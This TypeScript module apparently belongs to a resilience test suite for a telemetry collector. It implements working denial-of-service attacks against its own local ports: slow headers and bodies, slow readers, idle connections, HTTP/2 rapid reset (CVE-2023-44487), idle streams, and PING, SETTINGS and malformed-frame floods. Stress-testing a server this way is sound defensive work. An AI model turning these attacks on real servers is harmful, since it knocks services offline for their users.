import http2 from 'node:http2';
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { callHeaders, frameOf } from './grpc-call.ts';
import type { Ports } from './installation.ts';
import { createCanaryRequest } from './requests.ts';

/** What an attacker did, and what became of its connections. */
export interface AttackReport {
  readonly opened: number;
  readonly closed: number;
  /** Until the last of those that were closed on it was closed. */
  readonly longestMs: number;
}

/** Attacks until it is told to end. */
export type Attack = (ports: Ports, count: number, siege: Siege) => Promise<AttackReport>;

/** How an attack is led. */
export interface Siege {
  /** Aborted when it is to end. */
  readonly signal: AbortSignal;
  /** To be called when everything is in place. */
  readonly ready: () => void;
}

const TRICKLE_MS = 2_000;
const OPENED_AT_ONCE = 200;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const PING = Buffer.concat([Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0]), Buffer.alloc(8)]);
const POST = 'POST /v1/traces HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n';
const BODY_BYTES = 16 * 1024 * 1024 - 1024;

/** Connections of which each knows how long it lived. */
class Crowd {
  opened = 0;
  closed = 0;
  longestMs = 0;
  readonly sockets = new Set<Socket>();

  open(port: number, first: Buffer | string): Socket {
    const socket = connect(port, '127.0.0.1');
    const startedMs = performance.now();
    this.opened += 1;
    this.sockets.add(socket);
    socket.on('error', () => undefined);
    socket.once('close', () => {
      if (!this.sockets.delete(socket)) return;
      this.closed += 1;
      this.longestMs = Math.max(this.longestMs, performance.now() - startedMs);
    });
    socket.resume();
    socket.write(first);
    return socket;
  }

  end(): AttackReport {
    const { opened, closed, longestMs } = this;
    for (const socket of [...this.sockets]) {
      this.sockets.delete(socket);
      socket.destroy();
    }
    return { opened, closed, longestMs };
  }
}

interface Trickle {
  readonly port: (ports: Ports, index: number) => number;
  readonly first: (index: number) => Buffer | string;
  readonly then: Buffer | string | undefined;
}

/** Opens its connections in portions, then sends a little on each from time to time. */
const trickle =
  ({ port, first, then }: Trickle): Attack =>
  async (ports, count, { signal, ready }) => {
    const crowd = new Crowd();
    for (let index = 0; index < count && !signal.aborted; index += 1) {
      crowd.open(port(ports, index), first(index));
      if (index % OPENED_AT_ONCE === OPENED_AT_ONCE - 1) await sleep(50);
    }
    ready();
    while (!signal.aborted) {
      await sleep(TRICKLE_MS, undefined, { signal }).catch(() => undefined);
      if (then !== undefined) for (const socket of crowd.sockets) socket.write(then);
    }
    return crowd.end();
  };

/** Keeps one thing going on a connection; takes a new one when that is closed. */
const hammer =
  (port: (ports: Ports) => number, first: Buffer, again: Buffer): Attack =>
  async (ports, count, { signal, ready }) => {
    const crowd = new Crowd();
    ready();
    while (!signal.aborted) {
      while (crowd.sockets.size < count) crowd.open(port(ports), first);
      for (const socket of crowd.sockets) if (!socket.writableNeedDrain) socket.write(again);
      await sleep(20);
    }
    return crowd.end();
  };

/** Opens calls and breaks them off at once (CVE-2023-44487). */
const rapidReset: Attack = async (ports, count, { signal, ready }) => {
  let opened = 0;
  let closed = 0;
  ready();
  const attackOnce = async (): Promise<void> => {
    const session = http2.connect(`http://127.0.0.1:${String(ports.grpc)}`);
    session.on('error', () => undefined);
    opened += 1;
    session.once('close', () => (closed += 1));
    const isOpen = (): boolean => !session.destroyed && !session.closed;
    while (isOpen() && !signal.aborted) {
      for (let call = 0; call < 20 && isOpen(); call += 1) {
        const stream = session.request(callHeaders('traces'));
        stream.on('error', () => undefined);
        stream.close(http2.constants.NGHTTP2_CANCEL);
      }
      await sleep(5);
    }
    session.destroy();
  };
  await Promise.all(
    Array.from({ length: count }, async () => {
      while (!signal.aborted) await attackOnce();
    }),
  );
  return { opened, closed, longestMs: 0 };
};

/** Opens calls and sends nothing on them; `count` connections, as many calls on each as it may have. */
const idleStreams: Attack = async (ports, count, { signal, ready }) => {
  let opened = 0;
  let closed = 0;
  let longestMs = 0;
  const sessions = Array.from({ length: count }, () => {
    const session = http2.connect(`http://127.0.0.1:${String(ports.grpc)}`);
    session.on('error', () => undefined);
    for (let call = 0; call < 100; call += 1) {
      const stream = session.request(callHeaders('traces'));
      const startedMs = performance.now();
      opened += 1;
      stream.on('error', () => undefined);
      stream.resume();
      stream.once('close', () => {
        closed += 1;
        longestMs = Math.max(longestMs, performance.now() - startedMs);
      });
    }
    return session;
  });
  ready();
  while (!signal.aborted) await sleep(100);
  const report = { opened, closed, longestMs };
  for (const session of sessions) session.destroy();
  return report;
};

const http = (ports: Ports): number => ports.http;
const grpc = (ports: Ports): number => ports.grpc;
const forward = (ports: Ports): number => ports.forward;
const valid = createCanaryRequest();
const validPost = `${POST}content-length: ${String(valid.length)}\r\n\r\n${valid.toString('latin1')}`;

/** Every attack, by its name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  slowHeaders: trickle({ port: http, first: () => POST, then: 'x-a: b\r\n' }),
  slowBodies: trickle({ port: http, first: () => `${POST}content-length: 100000\r\n\r\nabc`, then: 'a' }),
  slowForward: trickle({
    port: forward,
    first: () => Buffer.from([0x93, 0xa1, 0x61, 0x01, 0xc6, 0, 1, 0, 0]),
    then: 'a',
  }),
  largeSlowBodies: trickle({
    port: http,
    first: () =>
      Buffer.concat([
        Buffer.from(`${POST}content-length: ${String(BODY_BYTES)}\r\n\r\n`),
        Buffer.alloc(BODY_BYTES - 100),
      ]),
    then: 'a',
  }),
  largeSlowMessages: trickle({
    port: forward,
    first: () => Buffer.concat([Buffer.from([0x93, 0xa1, 0x61, 0x01, 0xc6, 0, 0xff, 0, 0]), Buffer.alloc(15_000_000)]),
    then: 'a',
  }),
  idle: trickle({
    port: (ports, index) => [ports.http, ports.grpc, ports.forward][index % 3] ?? 0,
    first: (index) => (index % 3 === 1 ? Buffer.concat([PREFACE, SETTINGS]) : index % 3 === 0 ? validPost : ''),
    then: undefined,
  }),
  slowReaders: async (ports, count, { signal, ready }) => {
    const crowd = new Crowd();
    for (let index = 0; index < count; index += 1) {
      crowd.open(ports.http, Buffer.from(validPost.repeat(20), 'latin1')).pause();
    }
    ready();
    while (!signal.aborted) await sleep(100);
    return crowd.end();
  },
  rapidReset,
  idleStreams,
  pingFlood: hammer(grpc, Buffer.concat([PREFACE, SETTINGS]), Buffer.alloc(PING.length * 500, PING)),
  settingsFlood: hammer(grpc, Buffer.concat([PREFACE, SETTINGS]), Buffer.alloc(SETTINGS.length * 500, SETTINGS)),
  brokenProtocol: hammer(grpc, Buffer.concat([PREFACE, SETTINGS]), frameOf(Buffer.alloc(100, 0xff))),
};
